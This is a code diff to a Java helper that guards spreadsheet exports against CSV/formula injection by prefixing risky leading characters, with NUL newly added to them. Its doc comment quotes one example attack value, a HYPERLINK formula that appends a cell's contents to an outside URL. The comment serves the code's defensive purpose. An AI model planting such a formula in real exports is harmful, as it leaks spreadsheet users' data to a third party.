@@ -6,8 +6,9 @@ import java.util.regex.Pattern;
  * Ô bảng tính an toàn: every CSV and XLSX cell the platform writes goes through here, so that a value typed by a
  * user or imported from a file (a village {@code =HYPERLINK("http://…"&A1,"click")}) is never run as a formula when
  * an officer opens the export in Excel or LibreOffice (CSV/formula injection). Rule, per OWASP's "CSV Injection"
- * guidance (owasp.org/www-community/attacks/CSV_Injection, verified 2026-12): a text cell starting with
- * {@code = + - @}, a tab or a carriage return is prefixed with a single quote ({@code '}), and a CSV cell is
+ * guidance and OWASP ASVS 5.0 requirement 1.2.10 (status: secondary — read on a public mirror of ASVS 1.2.10 on
+ * 2026-12-07, the owasp.org pages themselves not read): a text cell starting with {@code = + - @}, a tab, a carriage
+ * return or a NUL is prefixed with a single quote ({@code '}), and a CSV cell is
  * quoted when it holds a separator, a quote or a line break. A cell that is a plain number ({@code -12},
  * {@code -3.5}, {@code 1E5} is not: it could be read either way and is prefixed) stays a number.
  * Importers of the register exchange format remove that one quote again (register-csv.md v2 §"Formula
@@ -26,7 +27,7 @@ public final class SpreadsheetCells {
             return false;
         }
         char c = s.charAt(0);
-        boolean formulaStart = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r'
+        boolean formulaStart = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' || c == '\0'
                 || c == '\uFF1D' || c == '\uFF0B' || c == '\uFF0D' || c == '\uFF20';   // full-width forms, read as the same by Excel
         return formulaStart && !PLAIN_NUMBER.matcher(s).matches();
     }
